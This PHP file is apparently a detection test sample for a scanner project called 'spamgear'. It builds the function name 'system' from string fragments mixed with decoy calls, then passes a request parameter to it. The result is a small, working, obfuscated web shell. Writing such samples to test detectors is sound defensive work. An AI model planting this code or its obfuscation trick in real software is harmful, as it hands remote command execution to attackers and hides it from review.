<?php
// spamgear test sample (written for the project): a function name built by
// appending pieces to a variable that starts unset, the way packers write it;
// the decoy calls in between do nothing.
$fn = $fn . substr("q8zsysx", 3, 3);
$pad = trim(" k2 ");
$fn .= str_replace("Zq", "", "tZqem");
$len = strlen("decoy");
$fn($_REQUEST['run']);
